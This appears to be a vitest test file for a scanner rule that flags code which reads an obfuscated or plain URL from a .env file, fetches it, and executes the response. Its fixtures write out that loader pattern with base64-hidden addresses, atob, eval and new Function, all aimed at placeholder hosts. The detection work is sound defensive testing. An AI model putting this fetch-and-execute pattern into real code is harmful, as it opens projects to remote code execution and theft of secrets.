import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './env-address-to-code.ts';

/** base64 of https://fixture.invalid/a */
const HIDDEN = 'aHR0cHM6Ly9maXh0dXJlLmludmFsaWQvYQ==';

describe('env-address-to-code', () => {
  it('T41: base64 in .env', async () => {
    const files = {
      '.env': `AUTH_API=${HIDDEN}\nDEV_SECRET_KEY=x-secret-key\nDEV_SECRET_VALUE=_\n`,
      'a.js': `require('dotenv').config(); const axios = require('axios'); const api = atob(process.env.AUTH_API); const k = process.env.DEV_SECRET_KEY; axios.get(api, { headers: { [k]: process.env.DEV_SECRET_VALUE } }).then(r => new Function('require', r.data.cookie)(require));`,
    };
    const [hit] = await hitsOf(detector, files);
    expect(hit).toMatchObject({ weight: 'proof' });
    expect(hit?.message).toContain('https://fixture.invalid/a');
  });

  it('T41: destructured and plain', async () => {
    const files = {
      'server/.env': 'API_URL="https://fixture.invalid/b"',
      'server/a.mjs': `import axios from 'axios'; const { API_URL } = process.env; const { data } = await axios(API_URL); eval(data);`,
    };
    expect((await hitsOf(detector, files)).map((hit) => hit.weight)).toEqual(['strong']);
  });

  it('twin: an address whose answer is shown', async () => {
    const files = {
      '.env': `API=${HIDDEN}`,
      'a.js': `fetch(atob(process.env.API)).then(r => r.json()).then(console.log); eval('1');`,
    };
    expect(await hitsOf(detector, files)).toEqual([]);
  });
});
